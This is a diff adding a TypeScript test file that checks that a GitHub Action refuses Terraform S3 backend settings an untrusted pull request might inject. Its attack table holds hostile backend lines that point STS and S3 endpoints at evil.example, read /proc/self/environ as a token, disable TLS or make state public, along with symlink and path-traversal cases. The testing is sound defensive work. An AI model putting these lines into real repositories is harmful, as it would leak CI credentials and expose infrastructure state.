@@ -1,0 +1,340 @@
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: HCL has them, too
+import { symlink } from 'node:fs/promises';
+import { join } from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { BACKEND_INPUTS } from '../../src/action/backend-config/arguments.ts';
+import { readGivenSettings } from '../../src/action/backend-config/given-settings.ts';
+import { restrictionOf } from '../../src/action/backend-config/trust.ts';
+import { readBackendInputs } from '../../src/action/inputs/backend-inputs.ts';
+import { createInputReader } from '../../src/runner/inputs.ts';
+import { inputEnv, job } from '../action/support.ts';
+import { folderWith } from '../support/terraform-backend.ts';
+
+const ROLE = 'role_arn = "arn:aws:iam::111122223333:role/r"';
+const OIDC = { ACTIONS_ID_TOKEN_REQUEST_URL: 'https://t', ACTIONS_ID_TOKEN_REQUEST_TOKEN: 'bearer' };
+const EVIL = 'https://evil.example';
+
+/** What a pull request may write into a backend block, and the input that says the same. */
+const ATTACKS: readonly (readonly [what: string, line: string, input: string])[] = [
+  ["the job's OIDC token goes to its own STS", `endpoints = { sts = "${EVIL}" }`, 'sts_endpoint'],
+  ['the same by the old name', `sts_endpoint = "${EVIL}"`, 'sts_endpoint'],
+  ['SSE-C key and session token go to its own S3', `endpoints = { s3 = "${EVIL}" }`, 'endpoint'],
+  ['the same by the old name of S3', `endpoint = "${EVIL}"`, 'endpoint'],
+  ['the lock table is its own', `endpoints = { dynamodb = "${EVIL}" }`, 'dynamodb_endpoint'],
+  ['the same by the old name of the table', `dynamodb_endpoint = "${EVIL}"`, 'dynamodb_endpoint'],
+  ['the doctor signs requests for it', `endpoints = { iam = "${EVIL}" }`, 'iam_endpoint'],
+  ['the same by the old name of IAM', `iam_endpoint = "${EVIL}"`, 'iam_endpoint'],
+  ['requests go through its proxy', 'https_proxy = "http://evil.example:3128"', 'https_proxy'],
+  ['plain requests go through its proxy', 'http_proxy = "http://evil.example:3128"', 'http_proxy'],
+  ["the company's proxy is left out", 'no_proxy = "*"', 'no_proxy'],
+  ["the company's proxy is taken away", 'https_proxy = ""', 'https_proxy'],
+  ['its own authority is trusted', 'custom_ca_bundle = "evil.pem"', 'custom_ca_bundle'],
+  ['no certificate is checked', 'insecure = true', 'insecure'],
+  ['the same as a text', 'insecure = "1"', 'insecure'],
+  ['a command runs by credential_process', 'profile = "evil"', 'profile'],
+  ['its own config file counts', 'shared_config_files = ["aws.ini"]', 'shared_config_files'],
+  ['its own keys count', 'shared_credentials_files = ["aws.ini"]', 'shared_credentials_files'],
+  ['the same by the old name of the file', 'shared_credentials_file = "aws.ini"', 'shared_credentials_file'],
+  [
+    "the process's environment goes to STS as a token",
+    `assume_role_with_web_identity = { ${ROLE}, web_identity_token_file = "/proc/self/environ" }`,
+    'web_identity_token_file',
+  ],
+  [
+    'credentials come from its own host',
+    `ec2_metadata_service_endpoint = "${EVIL}"`,
+    'ec2_metadata_service_endpoint',
+  ],
+  [
+    'they come another way',
+    'ec2_metadata_service_endpoint_mode = "IPv6"',
+    'ec2_metadata_service_endpoint_mode',
+  ],
+  ["the machine's own role is used", 'skip_metadata_api_check = false', 'skip_metadata_api_check'],
+  ['a key id blinds the log', 'access_key = "a"', 'access_key'],
+  ['the state is written as somebody else', 'secret_key = "s"', 'secret_key'],
+  ['a token blinds the log', 'token = "Terraform"', 'token'],
+  ['the session policy is replaced', `assume_role = { ${ROLE}, policy = "{}" }`, 'assume_role_policy'],
+  ['the same by the old name of the policy', 'assume_role_policy = "{}"', 'assume_role_policy'],
+  [
+    'the session policy is replaced by a managed one',
+    `assume_role = { ${ROLE}, policy_arns = ["arn:aws:iam::aws:policy/AdministratorAccess"] }`,
+    'assume_role_policy_arns',
+  ],
+  [
+    'the same by the old name of the list',
+    'assume_role_policy_arns = ["arn:aws:iam::aws:policy/AdministratorAccess"]',
+    'assume_role_policy_arns',
+  ],
+  ['the state is public', 'acl = "public-read"', 'acl'],
+  ['an expression hides it', 'acl = "${"public-read"}"', 'acl'],
+];
+
+interface Checkout {
+  readonly files: Record<string, string>;
+  readonly inputs?: Record<string, string>;
+  readonly env?: Record<string, string>;
+}
+
+const block = (...lines: string[]) =>
+  ['terraform {', '  backend "s3" {', ...lines.map((line) => `    ${line}`), '  }', '}', ''].join('\n');
+const PLACE = ['bucket = "b"', 'key = "k"', 'region = "eu-west-1"'];
+
+async function readCheckout({ files, inputs = {}, env = {} }: Checkout) {
+  return readIn(await folderWith({ 'infra/.keep': '', ...files }), inputs, env);
+}
+
+async function readIn(workspace: string, inputs: Record<string, string>, env: Record<string, string> = {}) {
+  const all = { ...env, ...inputEnv({ working_directory: 'infra', ...inputs }) };
+  const log: string[] = [];
+  const masks: string[] = [];
+  const runner = {
+    info: (line: string) => log.push(line),
+    notice: (line: string) => log.push(line),
+    mask: (value: string) => masks.push(value),
+  };
+  const given = await readGivenSettings({ env: all, runner }, { ...job, workspace });
+  const reader = createInputReader(all, given);
+  const { settings } = readBackendInputs(reader, { ...job, workspace }, undefined);
+  return { reader, settings, log, masks, problems: reader.problems };
+}
+
+const told = ({ problems }: Awaited<ReturnType<typeof readIn>>) =>
+  problems.map(({ input, cure }) => `${input}: ${cure}`);
+
+/** The problems of one refused argument: it by its place, and once what else can be done. */
+const refusal = (input: string, place: string, from = 'working_directory') => [
+  expect.stringMatching(new RegExp(`^${from}: ${place}: .*: give the input \`${input}\` instead$`)),
+  expect.stringMatching(/^trust_repository: .*trust_repository: true lets/),
+];
+
+describe('a backend block of a pull request', () => {
+  it.each(ATTACKS)('%s: %s', async (_, line, input) => {
+    const attacked = await readCheckout({ files: { 'infra/main.tf': block(...PLACE, line) } });
+    expect(told(attacked)).toEqual(refusal(input, join('infra', 'main.tf').concat(':6')));
+    expect(attacked.reader.text(input)).toBeUndefined();
+    expect(attacked.masks).toEqual([]);
+    expect(Math.max(...told(attacked).map((text) => text.length))).toBeLessThan(300);
+  });
+
+  it.each(ATTACKS)('%s: %s, in a file that backend_config names', async (_, line, input) => {
+    const attacked = await readCheckout({
+      files: { 'infra/main.tf': block(...PLACE), 'infra/prod.hcl': `${line}\n` },
+      inputs: { backend_config: 'prod.hcl' },
+    });
+    expect(told(attacked)).toEqual(refusal(input, 'prod.hcl:1', 'backend_config'));
+  });
+
+  it.each(ATTACKS)('%s: %s, beside all inputs of that kind, which are all that counts', async (_, line) => {
+    const inputs = {
+      endpoint: 'https://s3.example',
+      dynamodb_endpoint: 'https://ddb.example',
+      sts_endpoint: 'https://sts.example',
+      iam_endpoint: 'https://iam.example',
+      http_proxy: 'http://proxy.example',
+      https_proxy: 'http://proxy.example',
+      no_proxy: 'a.example',
+      custom_ca_bundle: '/none.pem',
+      insecure: 'false',
+      profile: 'ours',
+      shared_config_files: '/ours',
+      shared_credentials_files: '/ours',
+      web_identity_token_file: '/token',
+      skip_metadata_api_check: 'true',
+      ec2_metadata_service_endpoint: 'http://m',
+      ec2_metadata_service_endpoint_mode: 'IPv4',
+      access_key: 'AKIAOURSOURSOURS',
+      secret_key: 'ours',
+      assume_role_policy: '{}',
+      assume_role_policy_arns: 'arn:aws:iam::aws:policy/ReadOnlyAccess',
+      acl: 'private',
+    };
+    const plain = await readCheckout({ files: { 'infra/main.tf': block(...PLACE) }, inputs });
+    const beside = await readCheckout({ files: { 'infra/main.tf': block(...PLACE, line) }, inputs });
+    expect(told(beside).filter((text) => /trust_repository|main\.tf/.test(text))).toEqual([]);
+    expect({ ...beside.settings.aws, credentials: 0 }).toEqual({ ...plain.settings.aws, credentials: 0 });
+    expect(beside.settings.aws.credentials.static).toEqual(plain.settings.aws.credentials.static);
+    expect(beside.settings.objects).toEqual(plain.settings.objects);
+  });
+
+  it('trust_repository: true lets all of it count, and nothing else than true does', async () => {
+    const files = { 'infra/main.tf': block(...PLACE, `endpoints = { s3 = "${EVIL}" }`, 'acl = "private"') };
+    const trusted = await readCheckout({ files, inputs: { trust_repository: 'true' } });
+    expect(told(trusted)).toEqual([]);
+    expect(trusted.settings.aws.endpoints.s3).toBe(EVIL);
+    const odd = await readCheckout({ files, inputs: { trust_repository: 'yes' } });
+    expect(told(odd)[0]).toBe('trust_repository: use true or false');
+    expect(told(odd).length).toBeGreaterThan(3);
+  });
+
+  it('lines of backend_config are the workflow’s, and take an argument of the block out', async () => {
+    const files = {
+      'infra/main.tf': block(...PLACE, `endpoints = { s3 = "${EVIL}" }`, 'profile = "laptop"'),
+    };
+    const lines = 'endpoints={ s3 = "https://s3.example" }\nprofile=\nacl=private';
+    const { settings, problems } = await readCheckout({ files, inputs: { backend_config: lines } });
+    expect(problems).toEqual([]);
+    expect(settings.aws.endpoints.s3).toBe('https://s3.example');
+    expect(settings.objects.acl).toBe('private');
+  });
+
+  it('what only the workflow says is asked for once, however much of it there is', async () => {
+    const all = [`sts_endpoint = "${EVIL}"`, 'insecure = true', 'acl = "public-read"'];
+    const attacked = await readCheckout({ files: { 'infra/main.tf': block(...PLACE, ...all) } });
+    expect(told(attacked)).toHaveLength(4);
+    expect(told(attacked).filter((text) => text.startsWith('trust_repository'))).toHaveLength(1);
+  });
+
+  it.each([
+    'insecure = false',
+    'skip_metadata_api_check = true',
+    'profile = null',
+    'shared_config_files = []',
+    'acl = ""',
+  ])('%s does no harm, and so is fine', async (line) => {
+    expect(told(await readCheckout({ files: { 'infra/main.tf': block(...PLACE, line) } }))).toEqual([]);
+  });
+
+  it('still says where the state is, how it is locked and encrypted, and which role opens it', async () => {
+    const lines = [
+      ...PLACE,
+      'dynamodb_table = "locks"',
+      'use_lockfile = true',
+      'encrypt = true',
+      'kms_key_id = "alias/k"',
+      'workspace_key_prefix = "p"',
+      'use_path_style = true',
+      'allowed_account_ids = ["111122223333"]',
+      `assume_role = { ${ROLE}, external_id = "x1", session_name = "n1", duration = "15m" }`,
+    ];
+    const { settings, problems } = await readCheckout({
+      files: { 'infra/main.tf': block(...lines) },
+      env: { TF_WORKSPACE: 'dev' },
+    });
+    expect(problems).toEqual([]);
+    expect(settings).toMatchObject({
+      address: { bucket: 'b', objectKey: 'p/dev/k' },
+      dynamodbTable: 'locks',
+      useLockfile: true,
+      objects: { encrypt: true, kmsKeyId: 'alias/k' },
+      aws: {
+        region: 'eu-west-1',
+        credentials: { assumeRole: { roleArn: 'arn:aws:iam::111122223333:role/r', externalId: 'x1' } },
+      },
+    });
+  });
+
+  it('a region that is more than a name would be a host of its own, whatever is skipped', async () => {
+    for (const region of ['x@evil.example/', 'x.evil.example#', 'evil.example', '-x', 'a'.repeat(64)]) {
+      for (const name of ['region', 'sts_region']) {
+        const lines = [...PLACE.filter((line) => !line.startsWith(`${name} `)), `${name} = "${region}"`];
+        const attacked = await readCheckout({
+          files: { 'infra/main.tf': block(...lines, 'skip_region_validation = true') },
+        });
+        expect(attacked.problems, region).toMatchObject([{ input: name, value: region }]);
+      }
+    }
+  });
+
+  it('calls no text of the log a key, so that it stays readable', async () => {
+    const { masks } = await readCheckout({
+      files: { 'infra/main.tf': block(...PLACE, 'sse_customer_key = "Terraform"') },
+    });
+    expect(masks).toEqual([]);
+  });
+});
+
+describe('a profile and shared files for laptops', () => {
+  const files = {
+    'infra/main.tf': block(...PLACE, 'profile = "laptop"', 'shared_config_files = ["~/.aws/laptops"]'),
+  };
+  const roleFiles = { 'infra/main.tf': block(...PLACE, 'profile = "laptop"', ROLE) };
+
+  it.each([
+    ['keys as inputs', files, { access_key: 'AKIAOURSOURSOURS', secret_key: 's' }, {}, '`access_key`'],
+    ['another profile as an input', files, { profile: 'ci' }, {}, '`profile`'],
+    ['files as inputs', files, { shared_config_files: '/c' }, {}, '`shared_config_files`'],
+    [
+      'keys in the environment',
+      files,
+      {},
+      { AWS_ACCESS_KEY_ID: 'AKIA', AWS_SECRET_ACCESS_KEY: 's' },
+      'AWS_ACCESS_KEY_ID',
+    ],
+    ['a profile in the environment', files, {}, { AWS_PROFILE: 'ci' }, 'AWS_PROFILE'],
+    ["the job's own identity and the block's role", roleFiles, {}, OIDC, 'OIDC'],
+    ["the job's own identity and the input's role", files, { role_arn: ROLE.slice(12, -1) }, OIDC, 'OIDC'],
+    [
+      'a token file as an input',
+      roleFiles,
+      { web_identity_token_file: '/t' },
+      {},
+      '`web_identity_token_file`',
+    ],
+  ])(
+    'are left out where the workflow brings %s, and a notice says so',
+    async (_, checkout, inputs, env, why) => {
+      const { problems, settings, log } = await readCheckout({ files: checkout, inputs, env });
+      expect(problems).toEqual([]);
+      expect(settings.aws.credentials.profile).toBe('profile' in inputs ? 'ci' : undefined);
+      const notices = log.filter((line) => line.includes('does not count here'));
+      expect(notices.length).toBeGreaterThan(0);
+      for (const notice of notices) expect(notice).toMatch(/^infra.main\.tf:\d: \w+ does not count/);
+      expect(notices.join('\n')).toContain(why);
+    },
+  );
+
+  it('an identity without any role is no credential: then they are refused', async () => {
+    expect(told(await readCheckout({ files, env: OIDC }))).toHaveLength(3);
+  });
+});
+
+describe('files that backend_config names', () => {
+  const EVIL_FILE = `endpoints = { sts = "${EVIL}" }\n`;
+
+  it('are the workflow’s outside of the checkout, as a step writes them into RUNNER_TEMP', async () => {
+    const temp = await folderWith({ 'prod.hcl': EVIL_FILE });
+    const { problems, settings } = await readCheckout({
+      files: { 'infra/main.tf': block(...PLACE) },
+      inputs: { backend_config: join(temp, 'prod.hcl') },
+    });
+    expect(problems).toEqual([]);
+    expect(settings.aws.endpoints.sts).toBe(EVIL);
+  });
+
+  it.each(['in', 'out'])('are the repository’s where a link leads %s of the checkout', async (way) => {
+    const temp = await folderWith({ 'prod.hcl': EVIL_FILE });
+    const workspace = await folderWith({ 'infra/main.tf': block(...PLACE), 'evil.hcl': EVIL_FILE });
+    const links = {
+      in: [join(workspace, 'evil.hcl'), join(temp, 'link.hcl')],
+      out: [join(temp, 'prod.hcl'), join(workspace, 'link.hcl')],
+    };
+    const [target = '', link = ''] = way === 'in' ? links.in : links.out;
+    await symlink(target, link);
+    const attacked = await readIn(workspace, { backend_config: link });
+    expect(told(attacked)).toEqual(refusal('sts_endpoint', '.*link.hcl:1', 'backend_config'));
+  });
+
+  it('are the repository’s behind a way out and in again', async () => {
+    const workspace = await folderWith({ 'infra/main.tf': block(...PLACE), 'evil.hcl': EVIL_FILE });
+    const name = workspace.split(/[\\/]/).at(-1) ?? '';
+    const attacked = await readIn(workspace, { backend_config: join('..', '..', name, 'evil.hcl') });
+    expect(told(attacked)).toHaveLength(2);
+  });
+});
+
+it('every setting of the backend is either anybody’s or the workflow’s', () => {
+  const ofTheWorkflow = BACKEND_INPUTS.filter((input) => restrictionOf(input) !== undefined);
+  const attacked = new Set(ATTACKS.map(([, , input]) => input));
+  const twins = ['assume_role_with_web_identity.policy', 'assume_role_with_web_identity.policy_arns'];
+  expect(ofTheWorkflow.filter((input) => !attacked.has(input)).sort()).toEqual(twins);
+  expect(restrictionOf('an_argument_of_tomorrow')).toBeDefined();
+});
+
+it('policies of a web identity’s block are given by a line, since they have no input', async () => {
+  const lines = [`assume_role_with_web_identity = { ${ROLE}, policy = "{}" }`];
+  const attacked = await readCheckout({ files: { 'infra/main.tf': block(...PLACE, ...lines) } });
+  expect(told(attacked)[0]).toContain(
+    'give the line assume_role_with_web_identity={ ... } of backend_config',
+  );
+});
